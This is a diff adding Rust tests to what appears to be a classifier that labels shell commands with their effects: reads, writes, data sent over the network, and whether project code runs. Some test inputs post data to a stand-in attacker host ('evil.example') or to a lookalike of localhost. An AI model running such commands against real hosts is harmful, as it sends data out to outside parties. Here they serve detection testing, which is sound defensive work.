@@ -360,6 +360,60 @@ fn a_variable_holds_until_something_unseen_could_change_it() {
     ]);
 }
 
+#[test]
+fn what_only_describes_itself_does_nothing() {
+    check(&[
+        ("split --help", &["split --help"]),
+        ("sudo --version", &["sudo --version"]),
+        ("split --help x", &["split --help x [read ./x, write .]"]),
+        ("pytest --help", &["pytest --help [project-code conftest, project-code tests]"]),
+    ]);
+}
+
+#[test]
+fn what_is_sent_to_this_machine_alone_can_be_sent_again() {
+    check(&[
+        (
+            "curl -d x localhost:1",
+            &["curl -d x localhost:1 [network host:localhost:1, remote sent-data reversible]"],
+        ),
+        (
+            "curl -d x 127.0.0.1 evil.example",
+            &[
+                "curl -d x 127.0.0.1 evil.example [network host:127.0.0.1, network host:evil.example, remote sent-data]",
+            ],
+        ),
+        (
+            "curl -d x 127.evil.example",
+            &["curl -d x 127.evil.example [network host:127.evil.example, remote sent-data]"],
+        ),
+    ]);
+}
+
+#[test]
+fn an_empty_command_empties_the_file_that_is_there() {
+    check(&[
+        ("> src", &["[write ./src, delete ./src]"]),
+        (">> src", &["[write ./src]"]),
+        ("> new", &["[write ./new]"]),
+        ("echo > src", &["echo [write ./src]"]),
+        ("{ ls; } > src", &["[write ./src]", "ls [list .]"]),
+        ("> /dev/null", &[""]),
+    ]);
+}
+
+#[test]
+fn code_from_where_anybody_writes_is_told_by_its_directory() {
+    check(&[
+        (
+            "make -C /tmp/x",
+            &["make -C /tmp/x [project-code /tmp/x, project-code build, write-recursive /tmp/x reversible]"],
+        ),
+        ("make -C src", &["make -C src [project-code build, write-recursive ./src reversible]"]),
+        ("RAILS_ENV=production ls", &["ls [list ., environment RAILS_ENV, environment production]"]),
+    ]);
+}
+
 const CHANGED: &str = "words that are names of files, which the line may change";
 
 #[test]
